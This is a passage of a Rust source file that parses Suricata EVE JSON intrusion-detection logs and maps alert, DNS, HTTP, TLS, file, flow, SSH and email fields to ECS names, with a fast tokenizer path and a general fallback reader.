//! Suricata EVE JSON: one record per line, every `event_type`.
//!
//! The envelope goes to ECS: `timestamp` → the event time (microseconds
//! and `+0000` offsets read), `src_ip`/`src_port`/`dest_ip`/`dest_port` →
//! `source.*`/`destination.*` (addresses typed), `proto` →
//! `network.transport` (lower case), `app_proto` → `network.protocol`
//! (except `failed`/`unknown`), `community_id` → `network.community_id`,
//! `in_iface` → `observer.ingress.interface.name`. `event_type` is kept as
//! `suricata.eve.event_type`, `flow_id` as `suricata.eve.flow_id`, and
//! every nested object (`alert`, `dns`, `http`, `flow`, ...) and every
//! other key is kept flattened under `suricata.eve.<path>`; the ECS fields
//! below are set besides (so rules may match either name).
//!
//! | EVE | ECS |
//! |---|---|
//! | `alert.signature` | `rule.name`, `message` |
//! | `alert.signature_id` | `rule.id` (text) |
//! | `alert.rev` | `rule.version` (text) |
//! | `alert.category` | `rule.category` |
//! | `alert.action` | `event.action`, `event.type` (`allowed`/`denied`) |
//! | `alert.metadata.cve`, `CVE-YYYY-NNNN` in the signature | `vulnerability.id` (a list of `CVE-YYYY-NNNN`) |
//! | `alert.metadata.mitre_technique_id` / `mitre_tactic_id` | `threat.technique.id` / `threat.tactic.id` |
//! | `dns.rrname` or `dns.queries[0].rrname` | `dns.question.name` |
//! | `dns.rrtype` or `dns.queries[0].rrtype` | `dns.question.type` |
//! | `dns.rcode` | `dns.response_code` |
//! | `dns.type` | `dns.type` (`query` → `question`) |
//! | `dns.id` | `dns.id` |
//! | address answers (`rdata`, `answers[].rdata`, `grouped.A`/`AAAA`) | `dns.resolved_ip` |
//! | `http.hostname` | `url.domain` |
//! | `http.url` | `url.original` |
//! | `http.http_method` | `http.request.method` |
//! | `http.status` | `http.response.status_code` |
//! | `http.http_user_agent` | `user_agent.original` |
//! | `http.http_refer` | `http.request.referrer` |
//! | `http.protocol` (`HTTP/1.1`) | `http.version` (`1.1`) |
//! | `http.length` | `http.response.body.bytes` |
//! | `tls.sni` | `tls.client.server_name` |
//! | `tls.version` (`TLSv1.2`) | `tls.version` (`1.2`), `tls.version_protocol` (`tls`) |
//! | `tls.ja3.hash` / `tls.ja3s.hash` / `tls.ja4` | `tls.client.ja3` / `tls.server.ja3s` / `tls.client.ja4` |
//! | `tls.subject` / `tls.issuerdn` | `tls.server.subject` / `tls.server.issuer` |
//! | `tls.notbefore` / `tls.notafter` | `tls.server.not_before` / `tls.server.not_after` |
//! | `fileinfo.filename` | `file.name` |
//! | `fileinfo.md5`/`sha1`/`sha256` | `file.hash.md5`/`sha1`/`sha256` |
//! | `fileinfo.size` | `file.size` |
//! | `flow.bytes_toserver`/`bytes_toclient` | `source.bytes`/`destination.bytes` (and their sum `network.bytes`) |
//! | `flow.pkts_toserver`/`pkts_toclient` | `source.packets`/`destination.packets` (and `network.packets`) |
//! | `flow.start`/`flow.end` | `event.start`/`event.end` |
//! | `netflow.bytes`/`pkts` | `source.bytes`/`source.packets`, `network.*` |
//! | `ssh.client.hassh.hash` / `ssh.server.hassh.hash` | `ssh.client.hassh` / `ssh.server.hassh` (not ECS; as Zeek's) |
//! | `ssh.client.software_version` / `server` | `ssh.client.software` / `ssh.server.software` |
//! | `smtp.mail_from` | `email.from.address` |
//! | `smtp.rcpt_to` | `email.to.address` (a list) |
//! | `email.subject` / `email.attachment` | `email.subject` / `email.attachments.file.name` |
//!
//! `event.kind` is `alert` for alerts, `metric` for stats, else `event`;
//! `event.category` and `event.type` follow the event type (alerts:
//! `network`, `intrusion_detection`; flows: `network` / `connection`;
//! protocol logs: `network` / `protocol`; fileinfo: `network`, `file` /
//! `info`; anomalies: `network` / `info`).
//!
//! Severity: an alert's `alert.severity` (1 is the highest, 4 the lowest)
//! maps 1 → 80, 2 → 60, 3 → 40, 4 (and anything above) → 20; an alert
//! without one is 60. Anomalies are 30; every other record (flows,
//! protocol logs, stats) is informational, 0.
//!
//! Reading: a record is read once by a pull tokenizer (`crate::pull`),
//! straight into the fields (no `serde_json::Value` tree for its objects;
//! the names are built in one buffer, and the names Suricata writes are
//! static text). Records with a
//! repeated, dotted or empty key anywhere, two of `flow` and `netflow`, or
//! no text `event_type` are read by the general reader (values first, then
//! mapped), which gives the same fields; so do lines that are not records,
//! so that errors keep their wording. Arrays are kept as lists, their
//! objects as JSON text.

use std::borrow::Cow;
use std::fmt;

use serde::Deserialize;
use serde::de::{MapAccess, Visitor};
use serde_json::{Map, Value as Json};

use crate::json::{find_cves, int_of, ip_value, parse_object, parse_time, text_of};
use crate::{Context, Fields, Format, ParseError, Parsed, Value};

/// Parses one EVE record.
///
/// # Errors
/// When the line is not a JSON object, or has no `event_type`.
pub fn parse(line: &str, _ctx: &Context) -> Result<Parsed, ParseError> {
    if let Some(parsed) = fast::parse(line) {
        return Ok(parsed);
    }
    parse_general(line)
}

/// The general reader: the record as `serde_json` values, then mapped and
/// flattened. The fast reader leaves it the records it does not take
/// (repeated, dotted or empty keys, a missing or odd `event_type`, lines
/// that are not JSON objects), so that they read exactly as before and
/// errors keep their wording.
fn parse_general(line: &str) -> Result<Parsed, ParseError> {
    let trimmed = line.trim();
    match serde_json::from_str::<Entries<'_>>(trimmed) {
        Ok(Entries(entries)) if !trimmed.is_empty() => from_entries(entries),
        // The slow path only words the error (or, should the two readers
        // ever disagree, reads the record the general way).
        _ => {
            let obj = parse_object(line, Format::SuricataEve)?;
            from_entries(obj.into_iter().map(|(k, v)| (Cow::Owned(k), v)).collect())
        }
    }
}

/// The record's top-level keys (borrowed from the line when they have no
/// escapes) and values, in the line's order; a repeated key keeps its
/// last value, as a JSON object read into a map would.
struct Entries<'a>(Vec<(Cow<'a, str>, Json)>);

struct Key<'a>(Cow<'a, str>);

impl<'de> Deserialize<'de> for Key<'de> {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> Visitor<'de> for V {
            type Value = Key<'de>;
            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a key")
            }
            fn visit_borrowed_str<E: serde::de::Error>(self, s: &'de str) -> Result<Key<'de>, E> {
                Ok(Key(Cow::Borrowed(s)))
            }
            fn visit_str<E: serde::de::Error>(self, s: &str) -> Result<Key<'de>, E> {
                Ok(Key(Cow::Owned(s.to_owned())))
            }
            fn visit_string<E: serde::de::Error>(self, s: String) -> Result<Key<'de>, E> {
                Ok(Key(Cow::Owned(s)))
            }
        }
        d.deserialize_str(V)
    }
}

impl<'de> Deserialize<'de> for Entries<'de> {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> Visitor<'de> for V {
            type Value = Entries<'de>;
            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("a JSON object")
            }
            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Entries<'de>, A::Error> {
                let mut out: Vec<(Cow<'de, str>, Json)> = Vec::with_capacity(20);
                while let Some(Key(k)) = map.next_key()? {
                    let v: Json = map.next_value()?;
                    if let Some(slot) = out.iter_mut().find(|(n, _)| *n == k) {
                        slot.1 = v;
                    } else {
                        out.push((k, v));
                    }
                }
                Ok(Entries(out))
            }
        }
        d.deserialize_map(V)
    }
}

fn from_entries(entries: Vec<(Cow<'_, str>, Json)>) -> Result<Parsed, ParseError> {
    let event_type = match entries.iter().find(|(k, _)| k == "event_type") {
        Some((_, Json::String(s))) if !s.trim().is_empty() => s.trim().to_owned(),
        Some((_, other)) => {
            return Err(ParseError::new(
                Format::SuricataEve,
                format!(
                    "not a Suricata EVE record: event_type is a JSON {}, expected text such as \"alert\"",
                    crate::json::kind_of(other)
                ),
            ));
        }
        None => {
            return Err(ParseError::new(
                Format::SuricataEve,
                "not a Suricata EVE record: the object has no event_type",
            ));
        }
    };
    let mut out = Parsed {
        fields: Fields::with_capacity(entries.len() * 4 + 8),
        ..Parsed::default()
    };
    let f = &mut out.fields;
    f.set("event.module", "suricata");
    f.set("event.dataset", "suricata.eve");
    let (kind, category, types): (&str, &[&str], &[&str]) = match event_type.as_str() {
        "alert" => ("alert", &["network", "intrusion_detection"], &[]),
        "stats" => ("metric", &[], &["info"]),
        "flow" => ("event", &["network"], &["connection", "end"]),
        "netflow" => ("event", &["network"], &["connection"]),
        "fileinfo" => ("event", &["network", "file"], &["info"]),
        "anomaly" | "drop" => ("event", &["network"], &["info"]),
        _ => ("event", &["network"], &["protocol"]),
    };
    f.set("event.kind", kind);
    if !category.is_empty() {
        f.set("event.category", str_list(category));
    }
    if !types.is_empty() {
        f.set("event.type", str_list(types));
    }
    out.severity = match event_type.as_str() {
        "anomaly" => 30,
        "alert" => 60,
        _ => 0,
    };

    // First the ECS names, read from the borrowed values while few names
    // are set (so `set` scans little)...
    let mut kept_raw = vec![false; entries.len()];
    for ((key, v), keep) in entries.iter().zip(kept_raw.iter_mut()) {
        match key.as_ref() {
            "timestamp" => {
                if let Some(ts) = v.as_str().and_then(parse_time) {
                    out.timestamp = Some(ts);
                } else {
                    *keep = true;
                }
            }
            "src_ip" => *keep = !set_ip(f, "source.ip", v),
            "dest_ip" => *keep = !set_ip(f, "destination.ip", v),
            "src_port" => set_int(f, "source.port", v),
            "dest_port" => set_int(f, "destination.port", v),
            "proto" => match v {
                Json::String(s) => f.set("network.transport", Value::Str(s.to_ascii_lowercase())),
                _ => *keep = true,
            },
            "app_proto" => match v.as_str() {
                Some(p) if !matches!(p, "failed" | "unknown" | "") => {
                    f.set("network.protocol", Value::Str(p.to_ascii_lowercase()));
                }
                _ => *keep = true,
            },
            "community_id" => set_text(f, "network.community_id", v),
            "in_iface" => set_text(f, "observer.ingress.interface.name", v),
            "event_type" | "flow_id" | "parent_id" => *keep = true,
            k => {
                *keep = true;
                if let Json::Object(inner) = v {
                    map_section(f, &mut out.severity, k, inner, &event_type);
                }
            }
        }
    }

    // ... then every raw `suricata.eve.*` name, moved out of the record.
    // Top-level keys are unique and no ECS name starts with
    // `suricata.eve.`, so each key's names are fresh unless a key has a
    // dot in it (or is empty) and may meet another key's names.
    let fresh = entries
        .iter()
        .all(|(k, _)| !k.is_empty() && !k.contains('.'));
    let mut name = String::with_capacity(64);
    for ((key, v), keep) in entries.into_iter().zip(kept_raw) {
        if !keep {
            continue;
        }
        name.clear();
        name.push_str("suricata.eve.");
        name.push_str(&key);
        let value = match (key.as_ref(), v) {
            ("event_type", _) => Json::String(event_type.clone()),
            // Flow ids are 64-bit unsigned; keep the exact digits as text
            // when they do not fit an i64.
            ("flow_id" | "parent_id", Json::Number(n)) if n.as_i64().is_none() => {
                Json::String(n.to_string())
            }
            (_, v) => v,
        };
        if fresh {
            f.flatten_json_fresh(&name, value);
        } else {
            f.flatten_json_owned(&name, value);
        }
    }
    Ok(out)
}

/// ECS fields from one protocol section of the record.
fn map_section(
    f: &mut Fields,
    severity: &mut u8,
    key: &str,
    o: &Map<String, Json>,
    event_type: &str,
) {
    match key {
        "alert" => map_alert(f, severity, o),
        "dns" => map_dns(f, o),
        "http" => {
            copy_text(f, o, "hostname", "url.domain");
            copy_text(f, o, "url", "url.original");
            copy_text(f, o, "http_method", "http.request.method");
            copy_int(f, o, "status", "http.response.status_code");
            copy_text(f, o, "http_user_agent", "user_agent.original");
            copy_text(f, o, "http_refer", "http.request.referrer");
            copy_text(f, o, "http_content_type", "http.response.mime_type");
            copy_int(f, o, "length", "http.response.body.bytes");
            if let Some(p) = o.get("protocol").and_then(Json::as_str) {
                let v = p.strip_prefix("HTTP/").unwrap_or(p);
                f.set("http.version", v);
            }
        }
        "tls" => {
            copy_text(f, o, "sni", "tls.client.server_name");
            copy_text(f, o, "subject", "tls.server.subject");
            copy_text(f, o, "issuerdn", "tls.server.issuer");
            copy_text(f, o, "notbefore", "tls.server.not_before");
            copy_text(f, o, "notafter", "tls.server.not_after");
            copy_text(f, o, "serial", "tls.server.x509.serial_number");
            if let Some(v) = o.get("version").and_then(Json::as_str) {
                set_tls_version(f, v);
            }
            if let Some(Json::Object(ja3)) = o.get("ja3") {
                copy_text(f, ja3, "hash", "tls.client.ja3");
            }
            if let Some(Json::Object(ja3s)) = o.get("ja3s") {
                copy_text(f, ja3s, "hash", "tls.server.ja3s");
            }
            match o.get("ja4") {
                Some(Json::String(s)) => f.set_text("tls.client.ja4", s),
                Some(Json::Object(ja4)) => copy_text(f, ja4, "hash", "tls.client.ja4"),
                _ => {}
            }
            if let Some(fp) = o.get("fingerprint").and_then(Json::as_str) {
                let hex: String = fp
                    .chars()
                    .filter(|c| *c != ':')
                    .collect::<String>()
                    .to_ascii_uppercase();
                if hex.len() == 40 {
                    f.set("tls.server.hash.sha1", hex);
                }
            }
        }
        "fileinfo" => {
            copy_text(f, o, "filename", "file.name");
            copy_text(f, o, "md5", "file.hash.md5");
            copy_text(f, o, "sha1", "file.hash.sha1");
            copy_text(f, o, "sha256", "file.hash.sha256");
            copy_int(f, o, "size", "file.size");
            copy_text(f, o, "mimetype", "file.mime_type");
        }
        "flow" => {
            let ts = copy_int(f, o, "bytes_toserver", "source.bytes");
            let tc = copy_int(f, o, "bytes_toclient", "destination.bytes");
            if let (Some(a), Some(b)) = (ts, tc) {
                f.set("network.bytes", a.saturating_add(b));
            }
            let ts = copy_int(f, o, "pkts_toserver", "source.packets");
            let tc = copy_int(f, o, "pkts_toclient", "destination.packets");
            if let (Some(a), Some(b)) = (ts, tc) {
                f.set("network.packets", a.saturating_add(b));
            }
            if event_type == "flow" {
                copy_text(f, o, "start", "event.start");
                copy_text(f, o, "end", "event.end");
            }
        }
        "netflow" => {
            if let Some(b) = copy_int(f, o, "bytes", "source.bytes") {
                f.set("network.bytes", b);
            }
            if let Some(p) = copy_int(f, o, "pkts", "source.packets") {
                f.set("network.packets", p);
            }
            copy_text(f, o, "start", "event.start");
            copy_text(f, o, "end", "event.end");
        }
        "ssh" => {
            for side in ["client", "server"] {
                if let Some(Json::Object(s)) = o.get(side) {
                    if let Some(Json::Object(h)) = s.get("hassh") {
                        let name = if side == "client" {
                            "ssh.client.hassh"
                        } else {
                            "ssh.server.hassh"
                        };
                        copy_text(f, h, "hash", name);
                    }
                    let name = if side == "client" {
                        "ssh.client.software"
                    } else {
                        "ssh.server.software"
                    };
                    copy_text(f, s, "software_version", name);
                }
            }
        }
        "smtp" => {
            if let Some(from) = o.get("mail_from").and_then(Json::as_str) {
                f.set_text("email.from.address", strip_angle(from));
            }
            match o.get("rcpt_to") {
                Some(Json::Array(to)) => {
                    let list: Vec<Value> = to
                        .iter()
                        .filter_map(Json::as_str)
                        .map(|s| Value::Str(strip_angle(s).to_owned()))
                        .collect();
                    if !list.is_empty() {
                        f.set("email.to.address", Value::List(list));
                    }
                }
                Some(Json::String(s)) => f.set_text("email.to.address", strip_angle(s)),
                _ => {}
            }
        }
        "email" => {
            copy_text(f, o, "subject", "email.subject");
            copy_text(f, o, "message_id", "email.message_id");
            if let Some(Json::Array(a)) = o.get("attachment") {
                let list: Vec<Value> = a.iter().filter_map(Value::from_json).collect();
                if !list.is_empty() {
                    f.set("email.attachments.file.name", Value::List(list));
                }
            }
        }
        _ => {}
    }
}

fn map_alert(f: &mut Fields, severity: &mut u8, a: &Map<String, Json>) {
    let mut cves = Vec::new();
    if let Some(sig) = a.get("signature").and_then(Json::as_str) {
        f.set_text("rule.name", sig);
        f.set_text("message", sig);
        find_cves(sig, &mut cves);
    }
    if let Some(id) = a.get("signature_id").and_then(text_of) {
        f.set("rule.id", id);
    }
    if let Some(rev) = a.get("rev").and_then(text_of) {
        f.set("rule.version", rev);
    }
    copy_text(f, a, "category", "rule.category");
    if let Some(action) = a.get("action").and_then(Json::as_str) {
        f.set_text("event.action", action);
        let t = match action {
            "blocked" | "drop" | "reject" | "rejected" => "denied",
            _ => "allowed",
        };
        f.set("event.type", str_list(&[t]));
    }
    if let Some(s) = a.get("severity").and_then(int_of) {
        *severity = match s {
            i64::MIN..=1 => 80,
            2 => 60,
            3 => 40,
            _ => 20,
        };
    }
    if let Some(Json::Object(meta)) = a.get("metadata") {
        for (k, v) in meta {
            let k_lower = k.to_ascii_lowercase();
            let items: Vec<&str> = match v {
                Json::Array(items) => items.iter().filter_map(Json::as_str).collect(),
                Json::String(s) => vec![s.as_str()],
                _ => Vec::new(),
            };
            if k_lower == "cve" || k_lower.starts_with("cve_") {
                for item in &items {
                    find_cves(item, &mut cves);
                }
            }
            let target = match k_lower.as_str() {
                "mitre_technique_id" => "threat.technique.id",
                "mitre_technique_name" => "threat.technique.name",
                "mitre_tactic_id" => "threat.tactic.id",
                "mitre_tactic_name" => "threat.tactic.name",
                _ => continue,
            };
            if !items.is_empty() {
                f.set(
                    target,
                    Value::List(items.iter().map(|s| Value::from(*s)).collect()),
                );
            }
        }
    }
    if !cves.is_empty() {
        f.set(
            "vulnerability.id",
            Value::List(cves.into_iter().map(Value::Str).collect()),
        );
    }
}

fn map_dns(f: &mut Fields, d: &Map<String, Json>) {
    // v1 and v2: rrname/rrtype at the top of `dns`; v3 (Suricata 8):
    // `queries[]`.
    let first_query = match d.get("queries") {
        Some(Json::Array(q)) => q.first().and_then(Json::as_object),
        _ => None,
    };
    let q = first_query.unwrap_or(d);
    copy_text(f, q, "rrname", "dns.question.name");
    copy_text(f, q, "rrtype", "dns.question.type");
    copy_text(f, d, "rcode", "dns.response_code");
    if let Some(id) = d.get("id").and_then(text_of) {
        f.set("dns.id", id);
    }
    if let Some(t) = d.get("type").and_then(Json::as_str) {
        f.set(
            "dns.type",
            if t == "query" || t == "request" {
                "question"
            } else {
                t
            },
        );
    }
    let mut ips = Vec::new();
    let mut push = |v: Option<&Json>| {
        if let Some(Json::String(s)) = v
            && let Ok(ip) = s.parse::<std::net::IpAddr>()
        {
            let ip = Value::Ip(ip);
            if !ips.contains(&ip) {
                ips.push(ip);
            }
        }
    };
    push(d.get("rdata"));
    if let Some(Json::Array(answers)) = d.get("answers") {
        for a in answers {
            push(a.get("rdata"));
        }
    }
    if let Some(Json::Object(grouped)) = d.get("grouped") {
        for key in ["A", "AAAA"] {
            if let Some(Json::Array(list)) = grouped.get(key) {
                for v in list {
                    push(Some(v));
                }
            }
        }
    }
    if !ips.is_empty() {
        f.set("dns.resolved_ip", Value::List(ips));
    }
}

fn set_tls_version(f: &mut Fields, v: &str) {
    if let Some((num, proto)) = tls_version(v) {
        f.set("tls.version", num);
        f.set("tls.version_protocol", proto);
    }
}

/// `TLSv1.2` → (`1.2`, `tls`); `None` for what is not a TLS or SSL version.
fn tls_version(v: &str) -> Option<(&str, &'static str)> {
    let v = v.trim();
    let (proto, num) = if let Some(n) = v.strip_prefix("TLSv").or_else(|| v.strip_prefix("TLS ")) {
        ("tls", n)
    } else if let Some(n) = v.strip_prefix("SSLv").or_else(|| v.strip_prefix("SSL ")) {
        ("ssl", n)
    } else {
        return None;
    };
    let num = match num {
        "1" => "1.0",
        "10" => "1.0",
        "11" => "1.1",
        "12" => "1.2",
        "13" => "1.3",
        n => n,
    };
    (!num.is_empty()).then_some((num, proto))
}

pub(crate) fn str_list(items: &[&str]) -> Value {
    Value::List(items.iter().map(|s| Value::from(*s)).collect())
}

fn strip_angle(s: &str) -> &str {
    let s = s.trim();
    s.strip_prefix('<')
        .and_then(|x| x.strip_suffix('>'))
        .unwrap_or(s)
}

/// Sets an address from text; `false` (nothing set) for other values.
fn set_ip(f: &mut Fields, name: &'static str, v: &Json) -> bool {
    match v {
        Json::String(s) => {
            f.set(name, ip_value(s));
            true
        }
        _ => false,
    }
}

fn set_int(f: &mut Fields, name: &'static str, v: &Json) {
    if let Some(n) = int_of(v) {
        f.set(name, n);
    }
}

fn set_text(f: &mut Fields, name: &'static str, v: &Json) {
    if let Some(s) = text_of(v) {
        f.set_text(name, &s);
    }
}

fn copy_text(f: &mut Fields, o: &Map<String, Json>, key: &str, name: &'static str) {
    match o.get(key) {
        Some(Json::String(s)) => f.set_text(name, s),
        Some(v @ (Json::Number(_) | Json::Bool(_))) => {
            if let Some(s) = text_of(v) {
                f.set(name, s);
            }
        }
        _ => {}
    }
}

fn copy_int(f: &mut Fields, o: &Map<String, Json>, key: &str, name: &'static str) -> Option<i64> {
    let n = o.get(key).and_then(int_of)?;
    f.set(name, n);
    Some(n)
}

/// The hot path: the line is read once by the pull tokenizer, straight
/// into [`Fields`], with no `serde_json::Value` tree for its objects
/// (arrays are read as values; their objects are kept as JSON text,
/// written as `serde_json` writes it). The names are built
/// in one buffer; the leaves the ECS mapping needs are noted on the way
/// (text borrowed from the line when it has no escapes) and the ECS fields
/// are set after the walk.
///
/// It takes only records whose names are plainly unique: no repeated key
/// in any object, no key with a dot in it, no empty key, and a text
/// `event_type`. Anything else (and every error) is left to the general
/// reader, which gives the same fields (in another order).
mod fast {
    use std::borrow::Cow;
    use std::net::IpAddr;

    use serde_json::Value as Json;

    use super::{strip_angle, tls_version};
    use crate::json::{find_cves, ip_value, parse_time};
    use crate::pull::{MAX_DEPTH, Next, Reader, Scalar};
    use crate::{Fields, Parsed, Value};

    /// `suricata.eve.`, the prefix of every raw name.
    const PREFIX: &str = "suricata.eve.";

    /// `str::trim`, with no work for text that starts and ends with a
    /// visible ASCII character (all but every value).
    fn trim(s: &str) -> &str {
        let visible = |c: Option<&u8>| c.is_some_and(|&c| c > b' ' && c < 0x80);
        if visible(s.as_bytes().first()) && visible(s.as_bytes().last()) {
            s
        } else {
            s.trim()
        }
    }

    /// Reads `line` when it is an EVE record the fast path takes.
    pub(super) fn parse(line: &str) -> Option<Parsed> {
        let b = line.as_bytes();
        let trimmed = if b.first() == Some(&b'{') && b.last() == Some(&b'}') {
            line
        } else {
            line.trim()
        };
        if trimmed.is_empty() {
            return None;
        }
        let mut st = State::new();
        let mut r = Reader::new(trimmed);
        top(&mut r, &mut st)?;
        if !r.at_end() {
            return None;
        }
        st.finish()
    }

    /// The top-level keys that are read as ECS fields (some kept raw too).
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Top {
        Timestamp,
        SrcIp,
        DestIp,
        SrcPort,
        DestPort,
        Proto,
        AppProto,
        CommunityId,
        InIface,
        EventType,
        FlowId,
    }

    impl Top {
        /// Keys whose value is never kept under `suricata.eve.`.
        const fn dropped(self) -> bool {
            matches!(
                self,
                Self::SrcPort | Self::DestPort | Self::CommunityId | Self::InIface
            )
        }
    }

    /// Which part of the record a value is in.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Sec {
        Other,
        Alert,
        Dns,
        Http,
        Tls,
        FileInfo,
        Flow,
        Netflow,
        Ssh,
        Smtp,
        Email,
        Tcp,
        Top(Top),
    }

    macro_rules! names {
        ($rel:expr, $section:literal, [$($key:literal),* $(,)?]) => {
            match $rel {
                $($key => Some(concat!("suricata.eve.", $section, $key)),)*
                _ => None,
            }
        };
    }

    /// The names of the top-level keys Suricata writes, as static text.
    #[rustfmt::skip]
    fn top_name(key: &str) -> Option<&'static str> {
        names!(key, "", [
            "timestamp", "flow_id", "parent_id", "in_iface", "event_type", "src_ip",
            "dest_ip", "proto", "pkt_src", "tx_id", "direction", "app_proto",
            "app_proto_ts", "app_proto_tc", "app_proto_orig", "app_proto_expected",
            "icmp_type", "icmp_code", "response_icmp_type", "response_icmp_code", "vlan",
            "host", "stream", "capture_file", "payload", "payload_printable", "packet",
            "tx_guessed",
        ])
    }

    /// The names of the keys Suricata writes in the sections, as static
    /// text: most names of a record need no allocation.
    #[rustfmt::skip]
    fn section_name(sec: Sec, rel: &str) -> Option<&'static str> {
        match sec {
            Sec::Alert => names!(rel, "alert.", [
                "action", "gid", "signature_id", "rev", "signature", "category", "severity",
                "metadata.affected_product", "metadata.attack_target", "metadata.created_at",
                "metadata.cve", "metadata.deployment", "metadata.signature_severity",
                "metadata.updated_at", "metadata.former_category", "metadata.performance_impact",
                "metadata.confidence", "metadata.mitre_tactic_id", "metadata.mitre_tactic_name",
                "metadata.mitre_technique_id", "metadata.mitre_technique_name",
                "metadata.malware_family", "metadata.tag", "metadata.policy", "source.ip",
                "source.port", "target.ip", "target.port", "xff",
            ]),
            Sec::Dns => names!(rel, "dns.", [
                "version", "type", "id", "flags", "qr", "rd", "ra", "aa", "tc", "z", "opcode",
                "rrname", "rrtype", "rcode", "ttl", "rdata", "tx_id", "answers", "authorities",
                "additionals", "queries", "grouped.A", "grouped.AAAA", "grouped.CNAME",
                "grouped.MX", "grouped.TXT", "grouped.PTR", "grouped.NS", "grouped.SOA",
            ]),
            Sec::Http => names!(rel, "http.", [
                "hostname", "http_port", "url", "http_user_agent", "http_content_type",
                "http_refer", "http_method", "protocol", "status", "length", "redirect", "xff",
                "org_src_ip", "http_request_body", "http_response_body",
                "http_request_body_printable", "http_response_body_printable",
                "request_headers", "response_headers",
            ]),
            Sec::Tls => names!(rel, "tls.", [
                "subject", "issuerdn", "serial", "fingerprint", "sni", "version", "notbefore",
                "notafter", "ja3.hash", "ja3.string", "ja3s.hash", "ja3s.string", "ja4",
                "session_resumed", "from_proto", "chain", "certificate", "client_alpns",
                "server_alpns",
            ]),
            Sec::FileInfo => names!(rel, "fileinfo.", [
                "filename", "magic", "gaps", "state", "md5", "sha1", "sha256", "stored", "size",
                "tx_id", "file_id", "sid", "mimetype", "start", "end",
            ]),
            Sec::Flow => names!(rel, "flow.", [
                "pkts_toserver", "pkts_toclient", "bytes_toserver", "bytes_toclient", "start",
                "end", "age", "state", "reason", "alerted", "src_ip", "dest_ip", "src_port",
                "dest_port", "bypass", "bypassed", "emergency", "wrong_thread", "action",
                "exception_policy", "tx_cnt",
            ]),
            Sec::Netflow => names!(rel, "netflow.", [
                "pkts", "bytes", "start", "end", "age", "min_ttl", "max_ttl", "tx_cnt",
            ]),
            Sec::Tcp => names!(rel, "tcp.", [
                "tcp_flags", "tcp_flags_ts", "tcp_flags_tc", "syn", "fin", "rst", "psh", "ack",
                "urg", "ecn", "cwr", "state", "ts_max_regions", "tc_max_regions",
            ]),
            Sec::Ssh => names!(rel, "ssh.", [
                "client.proto_version", "client.software_version", "client.hassh.hash",
                "client.hassh.string", "server.proto_version", "server.software_version",
                "server.hassh.hash", "server.hassh.string",
            ]),
            _ => None,
        }
    }

    fn sec_of(key: &str) -> Sec {
        match key {
            "timestamp" => Sec::Top(Top::Timestamp),
            "src_ip" => Sec::Top(Top::SrcIp),
            "dest_ip" => Sec::Top(Top::DestIp),
            "src_port" => Sec::Top(Top::SrcPort),
            "dest_port" => Sec::Top(Top::DestPort),
            "proto" => Sec::Top(Top::Proto),
            "app_proto" => Sec::Top(Top::AppProto),
            "community_id" => Sec::Top(Top::CommunityId),
            "in_iface" => Sec::Top(Top::InIface),
            "event_type" => Sec::Top(Top::EventType),
            "flow_id" | "parent_id" => Sec::Top(Top::FlowId),
            "alert" => Sec::Alert,
            "dns" => Sec::Dns,
            "http" => Sec::Http,
            "tls" => Sec::Tls,
            "fileinfo" => Sec::FileInfo,
            "flow" => Sec::Flow,
            "netflow" => Sec::Netflow,
            "ssh" => Sec::Ssh,
            "smtp" => Sec::Smtp,
            "email" => Sec::Email,
            "tcp" => Sec::Tcp,
            _ => Sec::Other,
        }
    }

    /// The scalar leaves with an ECS mapping.
    #[derive(Debug, Clone, Copy)]
    enum K {
        ASig,
        ASigId,
        ARev,
        ACat,
        AAction,
        ASev,
        DRrname,
        DRrtype,
        DRcode,
        DId,
        DType,
        DRdata,
        HHost,
        HUrl,
        HMethod,
        HStatus,
        HUa,
        HRefer,
        HCtype,
        HLength,
        HProto,
        TSni,
        TSubject,
        TIssuer,
        TNotBefore,
        TNotAfter,
        TSerial,
        TVersion,
        TJa3,
        TJa3s,
        TJa4,
        TJa4Hash,
        TFingerprint,
        FName,
        FMd5,
        FSha1,
        FSha256,
        FSize,
        FMime,
        FlBytesTs,
        FlBytesTc,
        FlPktsTs,
        FlPktsTc,
        FlStart,
        FlEnd,
        NBytes,
        NPkts,
        NStart,
        NEnd,
        SshClientHassh,
        SshServerHassh,
        SshClientSoftware,
        SshServerSoftware,
        MFrom,
        MRcpt,
        ESubject,
        EMessageId,
    }

    const NK: usize = K::EMessageId as usize + 1;

    /// The slot of a scalar at `rel` (the path below the section).
    fn slot(sec: Sec, rel: &str) -> Option<K> {
        Some(match (sec, rel) {
            (Sec::Alert, "signature") => K::ASig,
            (Sec::Alert, "signature_id") => K::ASigId,
            (Sec::Alert, "rev") => K::ARev,
            (Sec::Alert, "category") => K::ACat,
            (Sec::Alert, "action") => K::AAction,
            (Sec::Alert, "severity") => K::ASev,
            (Sec::Dns, "rrname") => K::DRrname,
            (Sec::Dns, "rrtype") => K::DRrtype,
            (Sec::Dns, "rcode") => K::DRcode,
            (Sec::Dns, "id") => K::DId,
            (Sec::Dns, "type") => K::DType,
            (Sec::Dns, "rdata") => K::DRdata,
            (Sec::Http, "hostname") => K::HHost,
            (Sec::Http, "url") => K::HUrl,
            (Sec::Http, "http_method") => K::HMethod,
            (Sec::Http, "status") => K::HStatus,
            (Sec::Http, "http_user_agent") => K::HUa,
            (Sec::Http, "http_refer") => K::HRefer,
            (Sec::Http, "http_content_type") => K::HCtype,
            (Sec::Http, "length") => K::HLength,
            (Sec::Http, "protocol") => K::HProto,
            (Sec::Tls, "sni") => K::TSni,
            (Sec::Tls, "subject") => K::TSubject,
            (Sec::Tls, "issuerdn") => K::TIssuer,
            (Sec::Tls, "notbefore") => K::TNotBefore,
            (Sec::Tls, "notafter") => K::TNotAfter,
            (Sec::Tls, "serial") => K::TSerial,
            (Sec::Tls, "version") => K::TVersion,
            (Sec::Tls, "ja3.hash") => K::TJa3,
            (Sec::Tls, "ja3s.hash") => K::TJa3s,
            (Sec::Tls, "ja4") => K::TJa4,
            (Sec::Tls, "ja4.hash") => K::TJa4Hash,
            (Sec::Tls, "fingerprint") => K::TFingerprint,
